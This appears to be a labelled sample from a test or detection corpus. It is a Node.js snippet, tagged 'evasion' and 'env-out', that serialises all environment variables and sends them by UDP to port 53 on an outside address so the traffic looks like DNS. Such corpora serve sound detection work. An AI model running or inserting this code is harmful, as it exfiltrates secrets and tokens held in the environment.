// evasion: the environment sent in a UDP datagram
// grade: medium; does: env-out
const dgram = require('dgram');
const s = dgram.createSocket('udp4');
s.send(JSON.stringify(process.env), 53, '203.0.113.5', () => s.close());
